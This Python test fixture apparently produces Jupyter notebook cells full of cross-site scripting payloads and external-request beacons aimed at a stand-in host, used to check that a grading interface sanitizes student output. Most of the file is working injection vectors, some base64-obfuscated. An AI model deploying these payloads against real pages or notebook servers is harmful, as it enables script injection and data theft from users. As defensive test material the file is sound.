"""What a hostile student makes Jupyter display: each tries to run, or to ask another host, on a page that shows it."""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell

OUTSIDE = "http://outside.example"
RAN = f"document.documentElement.dataset.ran=1;new Image().src='{OUTSIDE}/ran'"
CODED = f"eval(atob('{base64.b64encode(RAN.encode()).decode()}'))"  # without a space or a quote that ends an attribute
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# What text/html says.
HTML = {
    "image": f'<img src=x onerror="{CODED}">',
    "script": f'<script>{RAN}</script><script src="{OUTSIDE}/x.js"></script><script nonce="">{RAN}</script>',
    "svg": f'<svg onload="{CODED}"><animate onbegin="{CODED}" attributeName=x dur=1s></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{RAN.replace(chr(34), "")}</script>"></iframe>',
    "frame-address": f'<iframe src="javascript:{CODED}"></iframe><iframe src="{OUTSIDE}/frame"></iframe>',
    "object": f'<object data="{OUTSIDE}/object"></object><embed src="{OUTSIDE}/embed">',
    "form": f'<form action="{OUTSIDE}/form"><input autofocus onfocus="{CODED}"><input type=image src="{OUTSIDE}">',
    "style": (
        f'<link rel=stylesheet href="{OUTSIDE}/l.css"><style>@import "{OUTSIDE}/i.css"; body {{display: none}}</style>'
    ),
    "refresh": f'<meta http-equiv=refresh content="0;url={OUTSIDE}/refresh">',
    "base": f'<base href="{OUTSIDE}/"><img src="relative.png">',
    "media": (
        f'<video autoplay><source src="{OUTSIDE}/v" onerror="{CODED}"></video><audio src="{OUTSIDE}/a" autoplay>'
    ),
    "toggle": f'<details open ontoggle="{CODED}"><summary>x</summary></details>',
    "background": (
        f'<p style="background: url({OUTSIDE}/b)">x</p><table background="{OUTSIDE}/t"><tr><td>x</td></tr></table>'
    ),
    "formula": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
        f'{CODED}&gt;"></table></mtext></math>'
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={CODED}>"></noscript>',
    "sets": f'<img srcset="{OUTSIDE}/1 1x, {OUTSIDE}/2 2x"><picture><source srcset="{OUTSIDE}/3"><img></picture>',
    "names": '<form id=notebook_id></form><a id=base_url href="/x"></a><img name=submission_id><b id=q3_words>1</b>',
    "dressed": '<a class="full-credit" data-link="x">x</a><input class="score" id="q1_a" value="10"><button>x</button>',
    "ping": f'<a href="#" ping="{OUTSIDE}/ping" id="ping">x</a><a href="/formgrader/static/" download>x</a>',
    "template": f"<template shadowrootmode=open><script>{RAN}</script></template><xmp><img onerror={CODED}></xmp>",
    "animation": f'<style>@keyframes k {{}}</style><p style="animation: k" onanimationstart="{CODED}">x</p>',
    "deep": "<div>" * 5000 + f'<img src=x onerror="{CODED}">',
    "data": f'<a href="data:text/html,<script>{RAN}</script>">x</a><img src="data:image/svg+xml,<svg onload={CODED}>">',
}
# What Markdown says, in words and in outputs.
MARKDOWN = {
    "link": f"[proof](javascript:{CODED})",
    "picture": f"![]({OUTSIDE}/?hidden=1) ![x][ref]\n\n[ref]: {OUTSIDE}/ref",
    "link-coded": f'<a href="java&#x09;script:{CODED}">x</a> [x](&#106;avascript:{CODED}) <javascript:{CODED}>',
    "reference": f'[x]\n\n[x]: javascript:{CODED} "t"',
    "fence": f'```"><script>{RAN}</script>\nx\n```\n\n```mermaid\ngraph LR; A-->B; click A "javascript:{CODED}"\n```',
    "attachment": "![](attachment:gone.png)",
    "tex": rf"$\href{{javascript:{CODED}}}{{x}}$ $\text{{<img src=x onerror={CODED}>}}$ $\require{{{OUTSIDE}/x.js}}$",
    "jinja": "{{ 7 * 7 }} {% include 'index.html.j2' %} ### BEGIN HIDDEN TESTS",
    "heading": f'# <img src=x onerror="{CODED}"> x',
}
# What a message of the kernel says: its data and its metadata.
BUNDLES = {
    "width": ({"image/png": PIXEL}, {"image/png": {"width": f"1 onload={CODED}", "height": f"1 onload={CODED}"}}),
    "alt": ({"image/jpeg": PIXEL}, {"image/jpeg": {"alt": f'"><script>{RAN}</script>', "width": f"1 onerror={CODED}"}}),
    "isolated": ({"text/html": f"<script>{RAN}</script>"}, {"text/html": {"isolated": True}, "isolated": True}),
    "file": ({"image/png": PIXEL}, {"filenames": {"image/png": f'x" onerror="{CODED}'}}),
    "bytes": ({"image/png": f'x" onerror="{CODED}'}, {}),
    "vector": ({"image/svg+xml": f"<svg onload='{CODED}'><script>{RAN}</script></svg>"}, {}),
    "javascript": ({"application/javascript": RAN, "text/plain": "x"}, {}),
    "latex": ({"text/latex": rf"</div><img src=x onerror={CODED}> $\href{{javascript:{CODED}}}{{x}}$"}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RAN}</script>"}}, {}),
    "plain": ({"text/plain": f"\x1b[31m<img src=x onerror={CODED}>\x1b]8;;javascript:{CODED}\x07x"}, {}),
    "list": ({"text/html": ["<b>", f"<script>{RAN}</script></b>"]}, {}),
    "number": ({"text/html": 5, "image/png": {"a": 1}}, {}),
}


def cells():
    """Cells that a student adds; each displays one of these."""
    show = "from IPython.display import display\ndisplay({data!r}, metadata={metadata!r}, raw=True)"
    for data, metadata in BUNDLES.values():
        yield new_code_cell(show.format(data=data, metadata=metadata))
    for html in HTML.values():
        yield new_code_cell(show.format(data={"text/html": html}, metadata={}))
        yield new_markdown_cell(html)
    for markdown in MARKDOWN.values():
        yield new_code_cell(show.format(data={"text/markdown": markdown}, metadata={}))
        yield new_markdown_cell(markdown)
    yield new_code_cell(f"print('''<img src=x onerror=\"{CODED}\">''')")
    yield new_code_cell(f"raise type('<img src=x onerror={CODED}>', (Exception,), {{}})('<img src=x onerror={CODED}>')")
